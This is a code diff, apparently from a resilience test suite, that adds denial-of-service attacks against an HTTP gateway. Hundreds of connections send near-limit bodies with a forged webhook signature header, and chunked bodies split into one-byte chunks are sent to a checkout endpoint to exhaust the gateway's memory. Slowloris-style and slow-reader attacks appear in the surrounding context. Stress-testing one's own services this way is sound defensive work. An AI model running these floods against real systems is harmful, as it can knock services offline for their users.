@@ -76,6 +76,10 @@ async function repeat(target: Target, text: string): Promise<Record<string, numb
   return endingsOf(wires);
 }
 
+const LARGEST_BYTES = 800 * 1_024;
+/** More bytes than the gateway's container has. */
+const almostWhole = 'a'.repeat(LARGEST_BYTES - 1);
+
 const manyHeaders = Array.from({ length: 1_900 }, (_, n) => `a${n}: 1`);
 
 /** Each takes something that the gateway has little of. */
@@ -87,6 +91,35 @@ export const attacks: Record<string, Attack> = {
       target,
       await open(500, target, (n) => request('POST /api/contact HTTP/1.1', 'Content-Length: 1000', from(n))),
       () => 'a',
+    ),
+  'bodies almost whole': async (target) =>
+    starve(
+      target,
+      await open(
+        700,
+        target,
+        (n) =>
+          request(
+            'POST /api/webhooks/sendgrid HTTP/1.1',
+            'X-Twilio-Email-Event-Webhook-Signature: MEUC',
+            `Content-Length: ${LARGEST_BYTES}`,
+            from(n % 60),
+          ) + almostWhole,
+      ),
+      () => '',
+    ),
+  // The gateway keeps a Buffer for each of them
+  'bodies in chunks of a byte': async (target) =>
+    starve(
+      target,
+      await open(
+        200,
+        target,
+        (n) =>
+          request('POST /api/checkout HTTP/1.1', 'Transfer-Encoding: chunked', from(n % 60)) +
+          '1\r\na\r\n'.repeat(200_000),
+      ),
+      () => '',
     ),
   'slow readers': async (target) =>
     starve(
